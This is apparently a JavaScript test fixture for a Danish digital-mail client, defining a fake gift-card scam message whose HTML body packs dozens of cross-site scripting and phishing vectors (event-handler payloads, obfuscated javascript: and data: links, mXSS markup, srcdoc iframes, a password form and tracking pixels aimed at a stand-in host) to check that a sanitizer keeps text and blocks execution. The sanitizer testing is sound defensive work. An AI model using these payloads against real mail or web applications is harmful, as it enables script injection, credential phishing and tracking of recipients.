import { recipient, sender } from '../lib/cast.mjs';
import { html } from '../lib/memo.mjs';

export const shows = 'Hostile HTML: scripts, handlers, svg, style import, javascript: and data: links, iframe, form, refresh; the readable text must survive and nothing may run or load';

const body = `<!DOCTYPE html>
<html lang="da" onload="alert('html')">
<head>
<meta charset="utf-8">
<meta http-equiv="refresh" content="0; url=https://fup.example/refresh">
<base href="https://fup.example/base/">
<link rel="stylesheet" href="https://fup.example/stil.css">
<style>@import url("https://fup.example/import.css"); body { background: url(https://fup.example/spion.png) } p::after { content: "skjult" }</style>
<script>alert('hoved')</script>
<title><script>alert('titel')</script>Tillykke</title>
</head>
<body onload="alert('body')" style="position:fixed;inset:0;z-index:99999">
<h1 onclick="alert('h1')">Tillykke, du har vundet et gavekort</h1>
<p>Dette afsnit skal kunne læses.</p>
<script src="https://fup.example/ondt.js"></script>
<noscript><p>Slå JavaScript til <img src="https://fup.example/noscript.gif"></p></noscript>
<img src="x" onerror="alert('img')" alt="Billede af et gavekort">
<img src="https://fup.example/sporing.gif?modtager=0100000001" width="1" height="1" alt="">
<svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg')"><script>alert('svg-script')</script><a xlink:href="javascript:alert('xlink')"><text y="20">Tekst i svg</text></a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert('mxss')&gt;"></style></mglyph></table></mtext></math>
<p>Her er fem links: <a href="javascript:alert('link')">hent gavekortet</a>,
<a href="JaVaScRiPt&colon;alert('store')">hent det nu</a>,
<a href="java&#10;script:alert('linje')">hent det her</a>,
<a href="data:text/html,&lt;script&gt;alert('data')&lt;/script&gt;">se vilkår</a> og
<a href="vbscript:msgbox('vb')">ring til os</a>.</p>
<p>Og to, der er lovlige: <a href="https://gavekort.example/" target="_blank" onmouseover="alert('over')">gavekort.example</a> og
<a href="https://nordhavn.example&#64;fup.example/login">https://nordhavn.example</a>.</p>
<iframe src="https://fup.example/ramme" srcdoc="&lt;script&gt;alert('srcdoc')&lt;/script&gt;">Ramme</iframe>
<object data="https://fup.example/film.swf"><embed src="https://fup.example/film.swf"></object>
<form action="https://fup.example/login" method="post">
<p>Skriv din kode: <input name="kode" type="password" autofocus onfocus="alert('fokus')"> <button formaction="javascript:alert('knap')">Send</button></p>
</form>
<video autoplay src="https://fup.example/film.mp4" onerror="alert('video')"></video>
<details open ontoggle="alert('toggle')"><summary>Vilkår</summary><p>Vilkårene skal også kunne læses.</p></details>
<template><p>skjult skabelon</p><img src=x onerror="alert('skabelon')"></template>
<div style="background-image:url('https://fup.example/bg.png');width:expression(alert('ie'))">Afsnit med ond stil.</div>
<p id="__proto__" name="constructor">Afsnit med snedigt id.</p>
<p hidden>Skjult tekst.</p>
<p>Tekst med vendt skrift: gavekort\u202efdp.exe\u202c og usynlig\u200bt mellemrum.</p>
<!--><img src=x onerror="alert('kommentar')">-->
<p>Sidste afsnit. Venlig hilsen Gavekortklubben Guldregn</p>
<xmp><img src=x onerror="alert('xmp')"></xmp>
<plaintext><script>alert('plaintext')</script>
`;

export default {
  version: '1.1',
  header: {
    label: 'Tillykke <script>alert("titel")</script> & velkommen',
    reply: false,
    postType: 'VIRKSOMHEDSPOST',
    Sender: sender('klub'),
    Recipient: recipient('aase'),
  },
  body: {
    createdDateTime: '2026-09-14T16:45:00Z',
    MainDocument: {
      label: 'Gavekort',
      File: [html('gavekort.html', body)],
      Action: [{ label: 'Hent dit gavekort', actionCode: 'SELVBETJENING', EntryPoint: { url: 'javascript:alert(1)' } }],
    },
  },
};
